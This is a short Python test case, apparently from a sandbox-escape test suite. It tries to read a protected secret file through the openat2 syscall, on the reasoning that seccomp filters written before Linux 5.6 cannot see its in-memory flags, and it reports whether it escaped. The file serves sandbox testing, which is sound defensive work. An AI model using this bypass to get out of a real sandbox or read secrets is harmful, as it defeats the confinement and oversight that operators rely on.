"""Open the secret with the newest of the opening calls.

origin: filters written before Linux 5.6 do not know openat2, whose flags are in memory
why: a filter cannot look into a structure
control: succeeds
"""


def attack(target):
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    fd, error = syscall(target, "openat2", AT_FDCWD, os.fsencode(target["secret"]), how, 24)
    if fd < 0:
        return blocked("openat2", error)
    return escaped("the secret was read") if holds_token(target, os.read(fd, 4096)) else nothing("no secret in it")
